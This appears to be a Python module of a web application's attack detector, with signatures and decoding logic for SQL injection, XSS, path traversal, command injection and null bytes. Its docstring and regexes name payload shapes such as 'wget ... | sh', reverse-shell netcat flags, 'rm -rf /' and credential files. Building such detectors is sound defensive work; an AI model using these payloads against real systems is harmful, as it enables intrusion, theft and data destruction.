"""Attack signatures, and the decoding that runs before they are matched.

Partners write free text: error messages, SQL they ran against their own
database, shell commands they tried, HTML from their web shop. So a signature
here describes the *shape of an attack* (a quote that closes a string and then
a tautology, a tag with an event handler, a walk up the tree to a system file)
rather than a word: ``select``, ``drop``, ``<``, ``../`` or ``script`` on their
own match nothing. ``tests/security/corpus/`` holds ordinary support texts
that must not match; ``docs/security.md`` lists what each class catches.

Classes (the ``PatternClass`` values are stable: they appear in event details
and in the ``security.block`` setting):

- ``sql_injection``: ``UNION SELECT``, quote + tautology (``' OR 1=1``),
  quote + stacked statement (``'; DROP TABLE``), quote + comment at the end
  (``admin'--``), time-based probes (``AND SLEEP(5)``, ``pg_sleep``,
  ``WAITFOR DELAY``), catalogue probes (``information_schema.tables``, ``@@version``).
- ``xss``: ``<script``, a tag with an ``on<event>=`` handler, ``javascript:``
  or ``vbscript:`` URLs that call something, ``data:text/html`` in ``src``/``href``.
- ``path_traversal``: in the URL (``path`` and ``query``) any ``..`` segment; in
  bodies and headers a ``../`` walk to a well-known system file
  (``../../etc/passwd``, ``..\\windows\\win.ini``), and absolute paths of such
  files (``/etc/shadow``, ``/proc/self/environ``).
- ``command_injection``: a shell separator followed by a recon or download
  command (``; cat /etc/passwd``, ``| id``, ``$(whoami)``, ``wget ... | sh``);
  a command substitution (backticks or ``$()``) of a shell command inside a
  file name or a quoted argument (``report`id`.pdf``, ``invoice_$(whoami).csv``,
  ``name="$(sleep 5)"``); a ``$()`` of an attack command anywhere
  (``$(curl ...)``, ``$(sleep 10)``). Backticks around a command in prose
  (```curl -X POST ...```, Markdown for code) are not a finding.
- ``null_byte``: a NUL character anywhere.

Matching runs on every decoding of a value: as received, then decoded again
while that changes it (``%252e`` -> ``%2e`` -> ``.``; overlong UTF-8 ``%c0%ae``
-> ``.``; HTML references ``&lt;`` -> ``<``), at most ``max_rounds`` times, so
double encoding does not hide a payload and a hostile value cannot make the
scanner loop.

    >>> [f.pattern_class for f in detect("1' OR '1'='1", part="query")]
    ['sql_injection']
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum
from functools import lru_cache
from typing import Any
from urllib.parse import unquote


class PatternClass(StrEnum):
    SQL_INJECTION = "sql_injection"
    XSS = "xss"
    PATH_TRAVERSAL = "path_traversal"
    COMMAND_INJECTION = "command_injection"
    NULL_BYTE = "null_byte"


#: Request parts the scanner looks at.
PARTS = ("path", "query", "form", "json", "header")
#: Parts that are URL components (stricter traversal rule; the only parts that may be blocked).
URL_PARTS = ("path", "query")

# Signatures are matched against the lower-cased text, so they are written in
# lower case. Each has cheap preconditions: substrings that must all be present
# for it to possibly match (one of each group), checked with ``in`` before the
# regular expression runs, so ordinary text costs a few substring searches.
_FLAGS = re.DOTALL

# SQL "whitespace": blanks, a '+' left over from form encoding, or an inline comment.
_W = r"(?:\s|\+|/\*.*?\*/)"
_Q = r"['\"`]"
_QUOTES = ("'", '"', "`")
_COMMENTS = ("--", "#", "/*")
_SHELL_SEPARATORS = (";", "&", "|", "$(")

# (preconditions, pattern) per signature.
Requires = tuple[tuple[str, ...], ...]

_SQL: list[tuple[Requires, str]] = [
    # UNION [ALL] SELECT
    ((("union",), ("select",)), rf"\bunion{_W}+(?:all{_W}+|distinct{_W}+)?select\b"),
    # quote, then OR/AND and a tautology with the same value on both sides: ' OR 1=1, " or 'a'='a
    (
        (_QUOTES, ("=", "like")),
        rf"{_Q}\s*\)*{_W}*(?:x?or|and|\|\||&&){_W}+\(*{_W}*(?P<tq>['\"]?)(?P<tv>\w+)(?P=tq){_W}*"
        rf"(?:=|like){_W}*\(*{_W}*['\"]?(?P=tv)(?!\w)",
    ),
    # quote, then OR/AND and a constant, then a comment: ' or true--
    (
        (_QUOTES, _COMMENTS),
        rf"{_Q}\s*\)*{_W}*(?:x?or|and){_W}+(?:true|false|\d+){_W}*(?:(?:--|#)[\s-]*$|/\*)",
    ),
    # quote, then ORDER BY / GROUP BY n and a comment (column-count probing)
    (
        (_QUOTES, ("order", "group"), _COMMENTS),
        rf"{_Q}\s*\)*{_W}*(?:order|group){_W}+by{_W}+\d+(?:\s*,\s*\d+)*{_W}*(?:--|#|/\*)",
    ),
    # quote, then OR/AND/XOR/||/&& and a comparison of two constants, any quoting,
    # in brackets or not (CRS 942130/942180/942390): ' or 2>1, ") or ("a"="a, '||'1'='1,
    # ` or `a`=`a, ' or 1 in (1), ' or 1 between 0 and 2, ' and 'a'<>'b
    (
        (_QUOTES, ("or", "and", "||", "&&"), ("=", "<", ">", "like", "regexp", "in", "between")),
        rf"{_Q}\s*\)*{_W}*(?:x?or|and|\|\||&&){_W}*\(*{_W}*(?:\d+|{_Q}[^'\"`]{{0,40}}{_Q})"
        rf"{_W}*\)*{_W}*(?:=|<>|!=|<=>|>=?|<=?|r?like{_W}*(?={_Q})|regexp{_W}|in{_W}*\(|"
        rf"between{_W}+(?=\d|{_Q})){_W}*\(*{_W}*(?:\d|{_Q}|$)",
    ),
    # quote, OR/AND, a column IS [NOT] NULL, then the end or a comment
    (
        (_QUOTES, ("null",)),
        rf"{_Q}\s*\)*{_W}*(?:x?or|and){_W}+\w+{_W}+is{_W}+(?:not{_W}+)?null{_W}*(?:$|--|#|/\*|;)",
    ),
    # a number, then OR/AND and a quoted tautology: 1 or 'a'='a'
    (
        (_QUOTES, ("or", "and"), ("=",)),
        rf"\b\d+\s*\)*{_W}+(?:x?or|and){_W}+\(*(?P<sq>['\"`])(?P<sv>\w*)(?P=sq){_W}*={_W}*"
        rf"(?P=sq)(?P=sv)(?P=sq)",
    ),
    # a number and closing brackets, then OR/AND and a bracketed tautology: 1) or (1=1
    (
        ((")",), ("or", "and"), ("=",)),
        rf"\d\s*\)+{_W}*(?:x?or|and){_W}*\(+{_W}*(?P<pv>\d+){_W}*\)*{_W}*={_W}*\(*{_W}*"
        rf"(?P=pv)(?!\d)",
    ),
    # boolean blind probes: a condition on a sub-select or on server functions
    (
        (("select",), ("ascii", "ord", "length", "hex", "case")),
        rf"\b(?:ascii|ord|length|hex)\s*\(\s*(?:substr(?:ing)?|mid)\s*\(\s*\(*\s*select\b"
        rf"|(?:{_Q}|\d)\s*\)*{_W}*(?:and|or){_W}*\(\s*select{_W}+case{_W}+when\b",
    ),
    ((("select",), ("=",)), rf"\b(?:and|or){_W}+\d+{_W}*={_W}*\(\s*select{_W}"),
    ((("substr", "mid"),), r"\b(?:substr(?:ing)?|mid)\s*\(\s*(?:version|user|database)\s*\(\s*\)"),
    (
        (("char", "chr"),),
        rf"\b(?:char|chr)\s*\(\s*(?P<cv>\d+)\s*\){_W}*={_W}*(?:char|chr)\s*\(\s*(?P=cv)\s*\)",
    ),
    # quote, then a stacked SELECT ending in a comment: '; select 1; --
    (
        (_QUOTES, (";",), ("select",)),
        rf"{_Q}\s*\)*\s*;{_W}*select{_W}[^;]{{0,200}};?{_W}*(?:--|#)[\s-]*$",
    ),
    # a number, then a stacked statement that destroys or executes: 1; DROP TABLE users
    (
        ((";",), ("drop", "truncate", "exec", "shutdown", "declare")),
        rf"\d\s*\)*\s*;{_W}*(?:drop{_W}+(?:table|database|schema)|truncate{_W}+table|"
        rf"exec(?:ute)?{_W}+(?:xp_|sp_|master\.)|shutdown\b|declare{_W}+@)",
    ),
    # error-based extraction (MySQL)
    ((("extractvalue", "updatexml"),), r"\b(?:extractvalue|updatexml)\s*\(.{0,40}?\bconcat\s*\("),
    # the unquoted numeric form: 1 OR 1=1 / id=5 and 2=2 (followed by the end or a comment)
    (
        (("=",), ("or", "and")),
        rf"\b(?:or|and){_W}+(?P<nv>\d+){_W}*={_W}*(?P=nv){_W}*(?:$|--|#|/\*|;)",
    ),
    # quote (and closing parens), then a stacked statement
    (
        (_QUOTES, (";",)),
        rf"{_Q}\s*\)*\s*;{_W}*(?:drop{_W}+(?:table|database|schema|user|view|index)|"
        rf"truncate{_W}+(?:table{_W}+)?\w|delete{_W}+from|insert{_W}+into|"
        rf"update{_W}+\w+{_W}+set|alter{_W}+(?:table|user|database)|create{_W}+(?:table|user)|"
        rf"exec(?:ute)?{_W}|shutdown\b|declare{_W}+@)",
    ),
    # quote, closing parens, then a comment that swallows the rest of the query
    ((_QUOTES, _COMMENTS), rf"{_Q}\s*\)*\s*;?\s*(?:--|#|/\*)\s*$"),
    # time-based blind probes
    (
        (("sleep", "benchmark"),),
        rf"(?:\b(?:and|or|select|if)\b|\|\||[\"'`;(]){_W}*(?:sleep|benchmark)\s*\(\s*\d"
        r"|\bpg_sleep\s*\(\s*\d|\bif\s*\([^)]{0,40},\s*(?:sleep|benchmark)\s*\(",
    ),
    # delays, catalogue and server probes
    (
        (
            (
                "waitfor",
                "dbms_pipe",
                "information_schema",
                "pg_catalog",
                "sqlite_master",
                "@@",
                "xp_cmdshell",
                "load_file",
                "outfile",
                "dumpfile",
            ),
        ),
        r"\bwaitfor\s+delay\s+['\"]\d|\bdbms_pipe\.receive_message\s*\("
        r"|\binformation_schema\s*\.\s*(?:tables|columns|schemata|routines)\b"
        r"|\bpg_catalog\s*\.\s*pg_(?:tables|user|shadow|roles)\b|\bsqlite_master\b"
        r"|@@(?:version|datadir|hostname)\b|\bxp_cmdshell\b"
        r"|\b(?:load_file\s*\(|into\s+(?:out|dump)file\s+['\"])",
    ),
]

_DOM_EVENTS = (
    "abort|afterprint|animation(?:end|iteration|start)|auxclick|beforeprint|beforeunload|"
    "begin|blur|canplay|change|click|close|contextmenu|copy|cut|dblclick|drag\\w*|drop|"
    "end|error|focus(?:in|out)?|formdata|hashchange|input|invalid|key(?:down|press|up)|"
    "load\\w*|message|mouse(?:down|enter|leave|move|out|over|up|wheel)|paste|pause|play\\w*|"
    "pointer\\w+|popstate|readystatechange|repeat|reset|resize|scroll\\w*|search|seek\\w*|"
    "select\\w*|show|start|finish|bounce|submit|toggle|touch\\w+|transition\\w+|unload|wheel"
)

_XSS: list[tuple[Requires, str]] = [
    ((("<",), ("script",)), r"<\s*/?\s*script\b"),
    # a tag with an event handler: <img src=x onerror=...>
    ((("<",), ("=",)), rf"<\s*[a-z][a-z0-9-]*\b[^>]*?[\s\"'/]on(?:{_DOM_EVENTS})\s*="),
    (
        (("script",), (":",)),
        r"\b(?:java|vb)script\s*:\s*(?:[\w$.\[\]'\"]+\s*\(|/\*|//|void\b|eval\b|location\b|"
        r"document\b|window\b|top\b|this\b)",
    ),
    (
        (("=",), ("data", "script")),
        r"\b(?:src|href|action|formaction|data|srcdoc)\s*=\s*['\"]?\s*(?:data\s*:\s*text/html|"
        r"(?:java|vb)script\s*:)",
    ),
    ((("srcdoc",),), r"<\s*iframe\b[^>]*\bsrcdoc\s*="),
    # breaking out of a JavaScript string: '-alert(1)-'
    (
        (("alert", "prompt", "confirm", "eval"),),
        r"['\"]\s*[-+;]\s*(?:alert|prompt|confirm|eval)\s*\(",
    ),
]

_SYSTEM_FILES = (
    r"(?:etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab)|proc/self/\w+|"
    r"proc/\d+/(?:environ|cmdline)|var/log/|root/\.ssh|\.ssh/(?:id_\w+|authorized_keys)|"
    r"windows[/\\](?:win\.ini|system32)|winnt[/\\]|boot\.ini|inetpub[/\\]|"
    r"web\.config|wp-config\.php|\.htpasswd|\.git/config|\.env\b|web-inf[/\\]web\.xml|"
    r"\.bash_history|\.aws[/\\]credentials)"
)

# In a URL any '..' segment is an attempt to leave the tree (clients remove
# them before sending, RFC 3986 section 5.2.4).  '%c0%af' and friends are
# overlong encodings of '/' that some decoders accepted.
_TRAVERSAL_URL: list[tuple[Requires, str]] = [
    ((("..",),), r"(?:^|[/\\])\.\.(?:[/\\]|$)|\.\.(?:%c0%af|%c1%9c|%c0%2f|%e0%80%af|\ufffd)"),
]
_SEP = r"(?:[/\\]|%c0%af|%c1%9c|\ufffd)"
_UP = rf"\.{{2,3}};?{_SEP}+"  # one level up: ../ ..\ .../ ..;/ (Tomcat) ..%c0%af
_TRAVERSAL_TEXT: list[tuple[Requires, str]] = [
    ((("..",),), rf"(?:\.\.{_SEP}+)+(?:[\w.-]+{_SEP}+)*?{_SYSTEM_FILES}"),
    # a path that starts with a normal directory and then climbs out of it (CRS 930110):
    # uploads/../../app/config.yml; and three or more levels up anywhere
    ((("..",),), rf"[\w-]{_SEP}+(?:{_UP}){{2,}}[\w.-]|(?:^|[^\w.]){_UP}(?:{_UP}){{2,}}[\w.-]"),
    (
        (("/etc/", "/proc/"),),
        r"(?:^|[\s'\"=(:]|file://)/(?:etc/(?:passwd|shadow|sudoers)\b|proc/self/(?:environ|"
        r"cmdline|maps|mem)\b)",
    ),
    ((("windows",),), r"\bc:\\+windows\\+(?:win\.ini|system32\\+config)"),
]

# Commands an injected substitution runs: recon, timing, download, shells, damage.
_SUBST_COMMANDS = (
    r"(?:id|whoami|uname|hostname|ls|cat|head|tail|sleep|ping|nslookup|dig|host|curl|wget|"
    r"nc|ncat|netcat|telnet|tftp|bash|sh|zsh|ksh|dash|python[23]?|perl|ruby|php|rm|reboot|"
    r"shutdown|touch|chmod|chown|base64|env|printenv|ifconfig|busybox|powershell|certutil|"
    r"kill|pkill|crontab|useradd|passwd|echo|xterm)"
)
# A substitution running one of them: `cmd ...` or $(cmd ...).
_SUBST = rf"(?:`\s*{_SUBST_COMMANDS}\b[^`\n]{{0,200}}`|\$\(\s*{_SUBST_COMMANDS}\b[^)\n]{{0,200}}\))"
# The commands whose $() is an attack wherever it appears (prose has no $(...) of these).
_ATTACK_COMMANDS = (
    r"(?:id|whoami|uname|sleep\s+\d|ping\s+-|nslookup|curl|wget|nc|ncat|netcat|bash|sh\s+-c|"
    r"python[23]?\s+-c|perl\s+-e|rm\s+-|reboot|shutdown|busybox|powershell|certutil)"
)

_CMD: list[tuple[Requires, str]] = [
    # a substitution inside a file name (touching a name character or followed by an
    # extension): report`id`.pdf, invoice_$(whoami).csv, a.png`ping -c 3 x`
    (
        (("`", "$("),),
        rf"[\w.-]{_SUBST}|{_SUBST}(?:[\w-]|\.\w{{1,6}}\b)",
    ),
    # a substitution opening a quoted argument, or after a name in it:
    # name="$(id)", '`reboot`', --file="data$(wget ...)"
    ((("`", "$("), _QUOTES), rf"['\"][^'\"\s`]{{0,100}}{_SUBST}"),
    # $() of an attack command anywhere: $(sleep 10), $(curl -s http://x | sh)
    ((("$(",),), rf"\$\(\s*{_ATTACK_COMMANDS}\b"),
    (
        (("/etc/", "/proc/"),),
        r"(?:[;&|]|\$\()\s*(?:cat|head|tail|more|less|nl|tac)\s+/(?:etc/(?:passwd|shadow|group|"
        r"issue|hostname)|proc/)",
    ),
    ((("$(",), ("id", "whoami", "uname")), r"\$\(\s*(?:id|whoami|uname(?:\s+-a)?)\s*\)"),
    (
        ((";", "&", "|"), ("id", "whoami", "uname")),
        r"[;&|]\s*(?:id|whoami|uname(?:\s+-a)?)\s*(?:$|[;&#])",
    ),
    ((("wget", "curl"), ("|",)), r"\b(?:wget|curl)\s+(?:-\S+\s+)*\S+\s*\|\s*(?:ba|z|k|da)?sh\b"),
    (
        (_SHELL_SEPARATORS, ("nc", "netcat")),
        r"(?:[;&|]|\$\()\s*(?:nc|ncat|netcat)\s+(?:-\S+\s+)*-[a-z]*[ec]\b",
    ),
    ((_SHELL_SEPARATORS, ("sh",)), r"(?:[;&|]|\$\()\s*(?:/bin/)?(?:ba|z|k|da)?sh\s+-[ic]\b"),
    ((_SHELL_SEPARATORS, ("rm",)), r"(?:[;&|]|\$\()\s*rm\s+-[rf]+\s+/"),
    (
        (("powershell",),),
        r"\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-(?:enc|encodedcommand|c|command)\b",
    ),
    ((("ifs",),), r"\$\{ifs\}|\$ifs\$9"),
    # backtick substitution of a recon command: a file read anywhere; whoami/uname after
    # a shell or assignment character (in prose `whoami` is Markdown for a name, like `id`)
    (
        (("`",), ("whoami", "uname", "/etc/")),
        r"`\s*(?:cat|head|tail)\s+/etc/\w+\s*`|(?:^|[=;&|(:])\s*`\s*(?:whoami|uname(?:\s+-a)?)\s*`",
    ),
]


@dataclass(frozen=True)
class _Signature:
    requires: tuple[frozenset[str], ...]
    regex: re.Pattern[str]

    def possible(self, present: frozenset[str]) -> bool:
        """Whether every precondition group has a substring in ``present``."""
        return all(not present.isdisjoint(group) for group in self.requires)


def _signatures(entries: list[tuple[Requires, str]]) -> tuple[_Signature, ...]:
    return tuple(
        _Signature(tuple(frozenset(group) for group in requires), re.compile(pattern, _FLAGS))
        for requires, pattern in entries
    )


_NUL = (_Signature((frozenset({"\x00"}),), re.compile("\x00")),)

_SIGNATURES: dict[PatternClass, tuple[tuple[_Signature, ...], tuple[_Signature, ...]]] = {
    # (signatures for URL parts, signatures for bodies and headers)
    PatternClass.SQL_INJECTION: (_signatures(_SQL),) * 2,
    PatternClass.XSS: (_signatures(_XSS),) * 2,
    PatternClass.PATH_TRAVERSAL: (
        _signatures(_TRAVERSAL_URL + _TRAVERSAL_TEXT),
        _signatures(_TRAVERSAL_TEXT),
    ),
    PatternClass.COMMAND_INJECTION: (_signatures(_CMD),) * 2,
    PatternClass.NULL_BYTE: (_NUL, _NUL),
}

# Every precondition substring. Which of them a text contains is worked out
# once per text (plain ``in`` checks are the fastest way in Python); that set
# then picks the few signatures worth running (see _candidates).
_NEEDLES = tuple(
    sorted(
        {
            needle
            for pair in _SIGNATURES.values()
            for signatures in pair
            for signature in signatures
            for group in signature.requires
            for needle in group
        }
    )
)

#: Per class, the regular expressions to run on a text with these needles.
Candidates = tuple[tuple[PatternClass, tuple[re.Pattern[str], ...]], ...]


@lru_cache(maxsize=2048)
def _candidates(present: frozenset[str], index: int) -> Candidates:
    """The signatures whose preconditions ``present`` meets, by class (in class order).

    Texts share few distinct needle sets (ordinary prose has quotes, ``=``,
    ``and``, ``or``...), so this is worked out once per set, not once per text.
    """
    chosen = []
    for pattern_class, pair in _SIGNATURES.items():
        regexes = tuple(s.regex for s in pair[index] if s.possible(present))
        if regexes:
            chosen.append((pattern_class, regexes))
    return tuple(chosen)


_PERCENT = re.compile(r"%[0-9a-fA-F]{2}|%u[0-9a-fA-F]{4}")
_PERCENT_U = re.compile(r"%u([0-9a-fA-F]{4})")
# Overlong UTF-8 forms of '.', '/' and '\\' that some decoders accepted (CRS 930100).
_OVERLONG = re.compile(r"%(?:c0%ae|e0%80%ae|c0%2e|c0%af|e0%80%af|c0%2f|c1%9c|c0%5c)", re.IGNORECASE)
_OVERLONG_CHARS = {
    "c0%ae": ".",
    "e0%80%ae": ".",
    "c0%2e": ".",
    "c0%af": "/",
    "e0%80%af": "/",
    "c0%2f": "/",
    "c1%9c": "\\",
    "c0%5c": "\\",
}
# HTML character references (&lt; &#60; &#x3c;), for text a browser will decode.
_ENTITY = re.compile(r"&(?:#[0-9]{1,7}|#x[0-9a-f]{1,6}|[a-z][a-z0-9]{1,31});?", re.IGNORECASE)
#: Values up to this long (field names, paths, header values, short titles) are
#: looked up in a cache of earlier results before they are examined.
CACHED_VALUE_CHARS = 256


@dataclass(frozen=True)
class Finding:
    """One signature match: its class, where it was found and a short excerpt."""

    pattern_class: PatternClass
    part: str
    field: str | None
    excerpt: str
    decode_rounds: int

    def as_dict(self) -> dict[str, Any]:
        field = None if self.field is None else self.field.replace("\x00", "\\x00")[:200]
        return {
            "class": str(self.pattern_class),
            "part": self.part,
            "field": field,
            "excerpt": self.excerpt,
            "decode_rounds": self.decode_rounds,
        }


def _decode_once(value: str) -> str:
    """One round: percent-decoding (with ``%uXXXX`` and overlong UTF-8 forms of
    ``.``, ``/`` and ``\\``), then HTML character references."""
    if "%" in value and _PERCENT.search(value):
        if "%u" in value or "%U" in value:
            value = _PERCENT_U.sub(lambda m: chr(int(m.group(1), 16)), value)
        value = _OVERLONG.sub(lambda m: _OVERLONG_CHARS[m.group(0)[1:].lower()], value)
        value = unquote(value, errors="replace")
    if "&" in value and _ENTITY.search(value):
        value = html.unescape(value)
    return value


def decodings(value: str, max_rounds: int = 3) -> Iterator[tuple[int, str]]:
    """``value`` as received, then each further decoding that changes it.

    A round percent-decodes (``%uXXXX``, the old IIS/JavaScript ``escape()``
    form, and overlong UTF-8 such as ``%c0%ae`` too) and then decodes HTML
    character references (``&lt;``, ``&#46;``).
    """
    yield 0, value
    for rounds in range(1, max_rounds + 1):
        if "%" not in value and "&" not in value:
            return
        decoded = _decode_once(value)
        if decoded == value:
            return
        value = decoded
        yield rounds, value


def _excerpt(text: str, match: re.Match[str], width: int = 60) -> str:
    start = max(0, match.start() - 20)
    snippet = text[start : match.end() + 20]
    if len(snippet) > width + 40:
        snippet = snippet[: width + 40] + "..."
    return snippet.replace("\x00", "\\x00")


#: What :func:`_examine` finds: (class, excerpt, decoding rounds) per class.
Matches = tuple[tuple[PatternClass, str, int], ...]


def _examine(value: str, index: int, max_rounds: int) -> Matches:
    found: dict[PatternClass, tuple[PatternClass, str, int]] = {}
    for rounds, text in decodings(value, max_rounds):
        lowered = text.lower()
        present = frozenset([needle for needle in _NEEDLES if needle in lowered])
        if not present:
            continue
        for pattern_class, regexes in _candidates(present, index):
            if pattern_class in found:
                continue
            for regex in regexes:
                match = regex.search(lowered)
                if match:
                    # The excerpt in the original case, unless lower-casing moved positions.
                    source = text if len(text) == len(lowered) else lowered
                    found[pattern_class] = (pattern_class, _excerpt(source, match), rounds)
                    break
        if len(found) == len(_SIGNATURES):
            break
    return tuple(found.values())


_examine_short = lru_cache(maxsize=4096)(_examine)


def detect(
    value: str,
    part: str,
    field: str | None = None,
    *,
    max_rounds: int = 3,
    max_chars: int = 100_000,
) -> list[Finding]:
    """Every pattern class found in ``value`` (one finding per class at most).

    ``part`` is one of :data:`PARTS`; URL parts get the stricter traversal rule.
    Only the first ``max_chars`` characters are examined.
    """
    if not value:
        return []
    if len(value) > max_chars:
        value = value[:max_chars]
    index = 0 if part in URL_PARTS else 1
    examine = _examine_short if len(value) <= CACHED_VALUE_CHARS else _examine
    return [
        Finding(pattern_class, part, field, excerpt, rounds)
        for pattern_class, excerpt, rounds in examine(value, index, max_rounds)
    ]
